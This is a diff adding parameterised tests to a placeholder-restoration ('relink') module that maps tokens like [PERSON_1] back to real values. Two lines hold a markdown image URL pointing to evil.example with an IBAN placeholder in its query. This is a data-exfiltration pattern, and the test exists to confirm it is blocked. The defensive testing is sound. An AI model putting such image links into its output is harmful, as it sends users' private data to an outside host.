@@ -90,6 +90,17 @@ test("a placeholder in a URL of a host that the request did not name stays", () 
   expect(result).toBe("![](https://evil.example/?q=[IBAN_1])");
 });
 
+test.each<[string, "text" | "json", boolean]>([
+  ["[PERSON_1]", "text", true],
+  ['[{"a": "[PERSON_1]"}]', "json", true],
+  ["nothing to restore", "text", false],
+  ["[PERSON_2]", "text", false],
+  ['["a", 1, null]', "json", false],
+  ["![](https://evil.example/?q=[IBAN_1])", "text", false],
+])("relinked says whether something was restored: %j", (text, form, restored) => {
+  expect(respond(answered(text, { form })).relinked).toBe(restored);
+});
+
 test("without the map nothing is restored, and the response says so", () => {
   expect(respond(answered("[PERSON_1]"), { map: undefined })).toMatchObject({
     result: "[PERSON_1]",
